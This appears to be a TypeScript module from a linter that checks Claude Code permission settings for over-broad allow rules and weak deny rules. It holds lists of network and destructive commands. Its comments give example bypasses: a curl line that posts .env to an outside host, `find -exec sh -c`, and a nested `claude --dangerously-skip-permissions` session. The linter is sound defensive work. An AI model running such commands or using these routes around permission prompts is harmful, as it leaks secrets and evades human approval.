/**
 * Permission-rule helpers for the context and permission rules
 * (context-exclusion-missing, claudeignore-not-enforced, overbroad-permission,
 * bypass-permissions, subagent-depth-unbounded, autocompact-disabled):
 * which settings files are committed, how a `Read(...)` deny rule matches a
 * path (gitignore style, as Claude Code matches deny rules), and how broad an
 * allow rule is.
 */
import type { Minimatch } from 'minimatch'
import { linearGlob } from '../core/glob.js'

/** Compiled globs: the same few deny patterns are tested against many paths. */
const GLOBS = new Map<string, Minimatch>()
function glob(pattern: string): Minimatch {
  let m = GLOBS.get(pattern)
  if (!m) GLOBS.set(pattern, (m = linearGlob(pattern, { dot: true })))
  return m
}
import type { Project } from '../model/project.js'
import type { SettingsFile } from '../model/settings.js'
import { trimEndChar } from '../core/linear-text.js'
import type { Span } from '../parse/source.js'
import { holdsAt, NEWEST_KNOWN_CLAUDE_CODE, type FactId } from '../facts/versions.js'
import { deref, literalValue, perApiFile, sdkCalls, spanFrom } from './anthropic-code.js'

/**
 * Settings files that everyone who checks the repository out gets: project
 * settings always, local settings only when git tracks them (or when git
 * cannot tell).
 */
export function committedSettings(project: Pick<Project, 'settings' | 'isTracked'>): SettingsFile[] {
  return project.settings.filter((s) => s.scope === 'project' || project.isTracked(s.path) !== false)
}

/** A permission rule split into tool name and parenthesised content. */
export interface ParsedRule {
  tool: string
  /** Content between the parentheses; undefined for a bare tool name. */
  content?: string
}

/** Splits `Tool(content)` (content may itself hold parentheses). */
export function parseRule(rule: string): ParsedRule | undefined {
  // On the trimmed rule: `\s*` at both ends of the expression backtracked quadratically.
  const m = /^([A-Za-z0-9_*.-]+)\s*(?:\(([\s\S]*)\))?$/.exec(rule.trim())
  if (!m) return undefined
  return { tool: m[1], content: m[2] }
}

/** True when a deny rule's content means "every use of the tool". */
export function isAllContent(content: string | undefined): boolean {
  return content === undefined || /^(\*|\*\*|:\*|\*\*\/\*|\*\*\/\*\*)?$/.test(content.trim())
}

/**
 * Whether one `Read` deny rule covers a repository-relative path of the
 * project at the settings root. Semantics (permissions docs): `Tool` and
 * `Tool(*)` match everything; `./x` and `/x` are anchored at the project
 * root; `//x` is absolute and `~/x` home-relative (only `//**` can be judged
 * here); anything else is gitignore-style and, in a deny rule, matches at any
 * depth. A pattern that matches a directory covers everything below it.
 */
export function readDenyCovers(rule: string, path: string): boolean {
  const r = parseRule(rule)
  if (!r || r.tool !== 'Read') return false
  if (isAllContent(r.content)) return true
  let pat = (r.content as string).trim()
  if (pat.startsWith('//')) return /^\/\/(\*\*?)?(\/\*\*?)?$/.test(pat)
  if (pat.startsWith('~')) return false
  let anchored = false
  if (pat.startsWith('./')) {
    pat = pat.slice(2)
    anchored = true
  } else if (pat.startsWith('/')) {
    pat = pat.slice(1)
    anchored = true
  }
  const dirOnly = pat.endsWith('/')
  pat = trimEndChar(pat, '/')
  if (!pat) return anchored
  const globPattern = anchored || pat.startsWith('**/') ? pat : `**/${pat}`
  const parts = path.split('/')
  for (let i = parts.length; i >= 1; i--) {
    const candidate = parts.slice(0, i).join('/')
    const isDir = i < parts.length
    if (dirOnly && !isDir) continue
    if (glob(globPattern).match(candidate)) return true
  }
  return false
}

/**
 * Example paths an exclusion entry stands for as a file (gitignore style):
 * `node_modules/` → `node_modules/x/x.js` (a trailing slash: directories
 * only); `.env*` → `.env`, `.env.local`; `*.png` → `x.png`.
 */
export function probePaths(entry: string): string[] {
  let e = entry.trim().replace(/^\.\//, '').replace(/^\//, '')
  if (!e) return []
  if (e.endsWith('/')) {
    e = trimEndChar(e, '/')
    return [`${e.replace(/\*+/g, 'x')}/x/x.js`]
  }
  if (e.endsWith('*') && !e.startsWith('*')) {
    const stem = trimEndChar(e, '*')
    return [stem.replace(/\*+/g, 'x'), `${stem.replace(/\*+/g, 'x')}.local`]
  }
  return [e.replace(/\*\*\//g, '').replace(/\*+/g, 'x')]
}

/**
 * Example path inside the directory an exclusion entry names, for an entry
 * without a trailing slash: in gitignore style `node_modules` or `secrets`
 * matches a file or a directory of that name (`node_modules/x/x.js`).
 * Undefined for entries that only match directories (see probePaths).
 */
export function directoryProbe(entry: string): string | undefined {
  const e = entry.trim().replace(/^\.\//, '').replace(/^\//, '')
  if (!e || e.endsWith('/')) return undefined
  return `${e.replace(/\*\*\//g, '').replace(/\*+/g, 'x')}/x/x.js`
}

/**
 * Whether deny rules cover an exclusion entry: every example path of it as a
 * file, or — an entry without a trailing slash may name a directory — the
 * files inside the directory it names (`Read(node_modules/**)` mirrors
 * `node_modules`).
 */
export function entryCovered(entry: string, denyRules: readonly string[]): boolean {
  const probes = probePaths(entry)
  if (!probes.length) return true
  const covered = (p: string): boolean => denyRules.some((r) => readDenyCovers(r, p))
  if (probes.every(covered)) return true
  const dir = directoryProbe(entry)
  return dir !== undefined && covered(dir)
}

/** The `Read(...)` deny rule that would do what a `.claudeignore` entry hopes to. */
export function denyRuleFor(entry: string): string {
  const e = entry.trim()
  if (e.endsWith('/')) {
    const d = trimEndChar(e, '/')
    return d.includes('/') && !d.startsWith('**/') ? `Read(./${d.replace(/^\.?\//, '')}/**)` : `Read(${d}/**)`
  }
  if (e.startsWith('/')) return `Read(.${e})`
  return `Read(${e})`
}

/** How an allow rule is too broad. */
export type Breadth = 'shell' | 'code' | 'files' | 'network' | 'destructive' | 'github' | 'mcp'

/** One over-broad allow rule. */
export interface BroadRule {
  rule: string
  kind: Breadth
  /** Grants the whole tool (no pattern at all). */
  whole: boolean
  /** Why this command grants more than it names, when the kind alone does not say (`find -exec` runs any command). */
  why?: string
  /** A grant of a whole program that can also delete or push (`Bash(git:*)`), rather than of the deleting or pushing command itself. */
  wholeProgram?: boolean
}

/** Interpreters: the bare prefix (or one of these flags) runs any code given on the command line. */
const INTERPRETERS: Record<string, string[]> = {
  python: ['-c', '-m'],
  python3: ['-c', '-m'],
  python2: ['-c', '-m'],
  py: ['-c', '-m'],
  node: ['-e', '--eval', '-p', '--print'],
  deno: ['run', 'eval'],
  bun: ['run', 'x', 'exec', '-e', '--eval'],
  ruby: ['-e'],
  perl: ['-e', '-E'],
  php: ['-r'],
  bash: ['-c'],
  sh: ['-c'],
  zsh: ['-c'],
  dash: ['-c'],
  fish: ['-c'],
  pwsh: ['-c', '-command'],
  powershell: ['-c', '-command'],
  npx: [],
  bunx: [],
  pnpx: [],
  uvx: [],
  pipx: ['run'],
  npm: ['exec', 'x', 'run', 'run-script'],
  yarn: ['dlx', 'exec', 'node', 'run'],
  pnpm: ['dlx', 'exec', 'run'],
  uv: ['run', 'tool'],
  make: [],
  eval: [],
  exec: [],
  sudo: [],
  env: [],
  xargs: [],
  docker: ['run', 'exec'],
  source: [],
  '.': []
}
/** Commands that send data anywhere when any argument is allowed. */
const NETWORK = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'ssh', 'scp', 'sftp', 'rsync', 'ftp', 'telnet'])
/** Network commands that fetch every URL on their command line. */
const MULTI_URL = new Set(['curl', 'wget'])
/** Package managers' install subcommands (one or two words after the command), which run code of the package installed. */
const INSTALLS: Record<string, string[][]> = {
  npm: [['install'], ['i'], ['add'], ['install-test'], ['it']],
  pnpm: [['add'], ['install'], ['i']],
  yarn: [['add'], ['global', 'add']],
  bun: [['add'], ['install'], ['i']],
  pip: [['install']],
  pip3: [['install']],
  uv: [['add'], ['pip', 'install']],
  poetry: [['add']],
  gem: [['install']],
  cargo: [['install']]
}

/**
 * Whether a rule's fixed prefix (before its trailing wildcard) is a package install: the
 * command and its install subcommand. Installers take any number of packages, so even a
 * named one (`npm install lodash:*`) lets the wildcard add others.
 */
function installs(cmd: string, rest: string[]): boolean {
  const forms = INSTALLS[cmd]
  return (
    forms !== undefined && forms.some((f) => f.length <= rest.length && f.every((w, i) => rest[i]?.toLowerCase() === w))
  )
}
/**
 * Programs whose documented options run any other command, so an allow rule for them grants every
 * command (Claude Code checks only the command line it is given, not what the program starts):
 * what the message says, and whether any fixed prefix still leaves room for that option
 * (`anyPrefix`) or only the bare program and its options do (`screen -S dev:*`, not `screen -dm npm run dev:*`).
 * Not here: the wrappers Claude Code strips before matching (`timeout`, `nohup`, `nice`, `time`,
 * `stdbuf`, `command`, `builtin`, bare `xargs`), whose inner command must match a rule of its own.
 */
const COMMAND_RUNNERS: Record<string, { why: string; anyPrefix: boolean; prompts?: FactId }> = {
  // find(1): the actions `-exec`, `-execdir`, `-ok` and `-okdir` run a command per file, `-delete` deletes;
  // an expression can always be extended, so `find . -name:*` allows `find . -name x -exec sh -c '…' \;`.
  // Claude Code refuses those actions under a prefix rule from `prompts` on (and watch, setsid, flock, ionice).
  find: { why: 'any command through `find -exec`, and deleting through `find -delete`', anyPrefix: true, prompts: 'execWrappersAlwaysPrompt' },
  // tmux(1): `new-session -d <command>`, `run-shell` and `send-keys` run any shell command, and a command
  // sequence (`tmux ls \; run-shell '…'`) appends them to any tmux command line.
  tmux: { why: 'any command through `tmux new-session -d`, `run-shell` or `send-keys`', anyPrefix: true },
  // watch(1): joins its arguments and runs them with `sh -c`, so words added after any prefix run too.
  watch: { why: 'any command through `watch`, which runs its arguments with `sh -c`', anyPrefix: true, prompts: 'execWrappersAlwaysPrompt' },
  // screen(1): `screen [options] <command>` (`screen -dm <command>`) starts any command in a new window.
  screen: { why: 'any command through `screen -dm <command>`', anyPrefix: false },
  // GNU parallel(1): runs its command template through the shell for each input.
  parallel: { why: 'any command through `parallel`, which runs its command template with the shell', anyPrefix: false },
  // setsid(1), flock(1): run the command named after their options.
  setsid: { why: 'any command through `setsid <command>`', anyPrefix: false, prompts: 'execWrappersAlwaysPrompt' },
  flock: { why: 'any command through `flock <file> <command>`', anyPrefix: false, prompts: 'execWrappersAlwaysPrompt' },
  // claude(1) itself: `claude -p "…" --dangerously-skip-permissions` starts a nested agent that runs any
  // command without a prompt (Claude Code 2.1.332 lets `Bash(claude *)` start it).
  claude: { why: 'any command through a nested `claude -p … --dangerously-skip-permissions`', anyPrefix: false },
  // ionice(1): runs the command after its options.
  ionice: { why: 'any command through `ionice <command>`', anyPrefix: false, prompts: 'execWrappersAlwaysPrompt' }
}

/**
 * `gh api` sends any REST or GraphQL request with the GitHub token gh holds (`-X DELETE`, `-X PUT`,
 * `-f` fields): with the endpoint open it writes and deletes anything that token can reach. All of
 * `gh` includes it (and `gh repo delete`). What that is depends on the token: a developer's own
 * login on their machine, or a CI job's `GITHUB_TOKEN` scoped by its `permissions:`.
 */
const GH_API_WHY = 'any GitHub API request with your gh login through `gh api`, writes and deletes included'

/** Commands that destroy or loosen when any argument is allowed. */
const DESTRUCTIVE = new Set(['rm', 'chmod', 'chown', 'dd', 'shred', 'mkfs'])

const FILE_TOOLS = new Set(['Read', 'Edit', 'Write', 'MultiEdit', 'NotebookEdit'])
/** File tools whose path rules Claude Code accepts but never consults. */
export const UNCONSULTED_PATH_TOOLS: ReadonlySet<string> = new Set(['Write', 'MultiEdit', 'NotebookEdit', 'Glob'])

/**
 * Whether a rule's content is the all-uses form: no parentheses (`Write`) or `(*)` (`Write(*)`).
 * Claude Code reads both as the whole tool, not as a path rule.
 * @param content the text between the parentheses, undefined for a bare tool name.
 */
export function isAllUses(content: string | undefined): boolean {
  return content === undefined || content.trim() === '*'
}

/** Whether file-tool content means "every path" (`*`, `**`, `/**`, `./**`, `//**`, `~/**`). */
export function allPaths(content: string | undefined): boolean {
  if (content === undefined) return true
  return /^(\/\/|~\/|\.\/|\/)?(\*|\*\*)?(\/\*\*?)?$/.test(content.trim())
}

/**
 * `content` without its trailing `:*`, ` *` or `*` (whitespace before the star
 * is left for the caller's trim): `content.replace(/(:\*|\s+\*|\*)$/, '')`
 * without the quadratic backtracking over whitespace runs.
 */
export function withoutTrailingWildcard(content: string): string {
  if (!content.endsWith('*')) return content
  const s = content.slice(0, -1)
  if (s.endsWith(':')) return s.slice(0, -1)
  return s.trimEnd()
}

/**
 * Classifies an allow rule; undefined when it is narrow enough. `version` is the Claude Code
 * that applies the rule (default: the newest known): what some programs start needs a prompt
 * whatever the rule says from some release on ({@link COMMAND_RUNNERS}).
 */
export function classifyAllow(rule: string, version: string = NEWEST_KNOWN_CLAUDE_CODE): BroadRule | undefined {
  const trimmed = rule.trim()
  if (trimmed === '*' || /^mcp__\*+$/.test(trimmed)) return { rule, kind: 'mcp', whole: true }
  const r = parseRule(trimmed)
  if (!r) return undefined
  if (r.tool === 'Bash' || r.tool === 'PowerShell') {
    if (isAllContent(r.content) || /^\s*\*\s*$/.test(r.content ?? '')) return { rule, kind: 'shell', whole: true }
    const content = (r.content as string).trim()
    if (!content.includes('*')) return undefined
    // Drop the trailing wildcard (`:*`, ` *`, `*`); what is left is a fixed prefix.
    const prefix = withoutTrailingWildcard(content).trim()
    if (!prefix) return { rule, kind: 'shell', whole: true }
    const words = prefix.split(/\s+/)
    const cmd = (words[0] ?? '').replace(/^.*\//, '')
    const rest = words.slice(1)
    // A package install runs the package's own code (npm lifecycle scripts, setup.py, extconf.rb, build.rs);
    // the bare installer (`Bash(pip:*)`) allows its install subcommand too.
    if (rest.length === 0 ? cmd in INSTALLS : installs(cmd, rest)) return { rule, kind: 'code', whole: false }
    if (cmd in INTERPRETERS) {
      if (rest.length === 0) return { rule, kind: 'code', whole: false }
      if (rest.length === 1 && INTERPRETERS[cmd].includes(rest[0].toLowerCase()))
        return { rule, kind: 'code', whole: false }
      if (cmd === 'uv' && rest[0] === 'tool' && rest[1] === 'run' && rest.length === 2)
        return { rule, kind: 'code', whole: false }
      // A runner handed a bare interpreter (`uv run python*`, `npm exec node:*`): the interpreter takes any code.
      const inner = (rest[1] ?? '').replace(/^.*\//, '')
      if (
        rest.length === 2 &&
        INTERPRETERS[cmd].includes(rest[0].toLowerCase()) &&
        inner in INTERPRETERS &&
        INTERPRETERS[inner].length > 0
      )
        return { rule, kind: 'code', whole: false }
      return undefined
    }
    const runner = COMMAND_RUNNERS[cmd]
    if (runner && !(runner.prompts && holdsAt(runner.prompts, version)) && (runner.anyPrefix || rest.every((w) => w.startsWith('-'))))
      return { rule, kind: 'shell', whole: false, why: runner.why }
    // `gh api` with the endpoint still open (only options fixed), or all of gh.
    if (cmd === 'gh' && (rest.length === 0 || (rest[0] === 'api' && rest.slice(1).every((w) => w.startsWith('-')))))
      return { rule, kind: 'github', whole: false, why: GH_API_WHY }
    if (NETWORK.has(cmd) && rest.length === 0) return { rule, kind: 'network', whole: false }
    // curl and wget take any number of URLs: after a fixed first URL the wildcard adds others
    // (`curl http://localhost:1 https://elsewhere -d @.env`), so the prefix limits nothing.
    if (MULTI_URL.has(cmd)) return { rule, kind: 'network', whole: false }
    if (DESTRUCTIVE.has(cmd) && rest.every((w) => w.startsWith('-'))) return { rule, kind: 'destructive', whole: false }
    // `git push …` forms, and bare `git` (`Bash(git:*)`, `Bash(git *)`), which allows `git push --force` too.
    if (cmd === 'git' && (rest.length === 0 || (rest[0] === 'push' && rest.slice(1).every((w) => w.startsWith('-'))))) {
      return { rule, kind: 'destructive', whole: false, ...(rest.length === 0 ? { wholeProgram: true } : {}) }
    }
    return undefined
  }
  if (FILE_TOOLS.has(r.tool)) {
    // `Write(**)` is a path rule, and Claude Code never consults path rules of Write, MultiEdit
    // and NotebookEdit (ineffective-setting reports them); only the all-uses forms `Write` and
    // `Write(*)` grant anything.
    if (UNCONSULTED_PATH_TOOLS.has(r.tool))
      return isAllUses(r.content) ? { rule, kind: 'files', whole: true } : undefined
    if (allPaths(r.content)) return { rule, kind: 'files', whole: true }
    return undefined
  }
  if (r.tool === 'WebFetch') {
    if (r.content === undefined || /^\s*(\*|domain:\s*\*)\s*$/.test(r.content))
      return { rule, kind: 'network', whole: true }
    return undefined
  }
  return undefined
}

export { usesClaudeCode } from '../model/project.js'

/** `Read`-relevant deny rules of the committed settings of the project in `dir` ('' = root). */
export function denyRulesOf(project: Project, dir: string): string[] {
  return committedSettings(project)
    .filter((s) => s.projectDir === dir)
    .flatMap((s) => s.rules.filter((r) => r.list === 'deny').map((r) => r.rule))
}

/** An Agent SDK session in program code that no workflow here runs, with its literal allow list. */
export interface SdkSessionAllows {
  file: string
  /** The callee as written (`query`). */
  call: string
  /** `allowedTools` or `allowed_tools`. */
  option: string
  /** Each rule of the list (first place it is written), where it is. */
  rules: { rule: string; at: Span }[]
}

/**
 * Agent SDK sessions in Python, JavaScript or TypeScript code that no
 * workflow here runs (a bot, a service, a local pipeline) and that pre-approve
 * tools with a literal `allowedTools` / `allowed_tools` list: such a session
 * runs unattended, so what the list allows runs without anyone asked.
 * Sessions a workflow runs are that run's (ClaudeRun.sdk) and are left out.
 */
export function sdkSessionAllows(p: Project): SdkSessionAllows[] {
  const inRuns = p.claudeRuns.flatMap((r) => (r.sdk ? [r.sdk.call] : []))
  // What each session in a file allows depends on the file's text alone (kept between runs, see
  // perApiFile); the sessions workflows run are left out afterwards.
  const found = perApiFile(p, 'sdk-session-allows', (f): SessionAllows[] => {
    const out: SessionAllows[] = []
    for (const call of sdkCalls(f)) {
      const at = call.call
      for (const e of call.options ?? []) {
        if (e.spread || (e.key !== 'allowedTools' && e.key !== 'allowed_tools')) continue
        // Seen through casts (`[...] as string[]`) and a name bound to the list.
        const value = deref(f, e.value)
        const list = value.type === 'array' || value.type === 'list' ? value.namedChildren : []
        const rules: { rule: string; at: Span }[] = []
        for (const n of list) {
          if (!n || n.type === 'comment') continue
          const v = literalValue(n)
          if (typeof v === 'string' && !rules.some((r) => r.rule === v)) rules.push({ rule: v, at: spanFrom(f, n) })
        }
        if (rules.length > 0)
          out.push({
            allows: { file: f.file.path, call: call.callee.text, option: e.key, rules },
            session: [at.startIndex, at.endIndex],
            list: e.keyNode.startIndex
          })
      }
    }
    return out
  })
  const out: SdkSessionAllows[] = []
  // A list written once counts once, however many sessions share it (options spread into several).
  const seen = new Set<string>()
  for (const { allows, session, list } of found) {
    if (inRuns.some((c) => c.file.path === allows.file && c.start < session[1] && session[0] < c.end)) continue
    const key = `${allows.file}\0${list}`
    if (seen.has(key)) continue
    seen.add(key)
    out.push(allows)
  }
  return out
}

/** One `allowedTools` list of one session, where the session is, and where the list is written. */
interface SessionAllows {
  allows: SdkSessionAllows
  session: [number, number]
  list: number
}
